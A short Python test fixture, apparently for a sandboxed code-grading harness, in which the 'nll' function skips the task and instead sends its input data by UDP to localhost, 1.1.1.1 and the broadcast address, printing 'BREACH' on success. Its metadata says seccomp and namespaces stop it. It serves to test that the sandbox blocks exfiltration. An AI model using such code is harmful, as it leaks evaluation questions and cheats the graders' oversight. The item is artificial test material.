"""
title = "Sends datagrams with the questions in them"
family = "network"
exercise = "nll"
verdicts = ["wrong_answer"]
stopped_by = "seccomp and namespaces"
"""

import socket


def nll(activations, targets):
    for host in ("127.0.0.1", "1.1.1.1", "255.255.255.255"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.sendto(str(activations).encode(), (host, 53))
        except OSError:
            continue
        print("BREACH: sent the question to", host, flush=True)
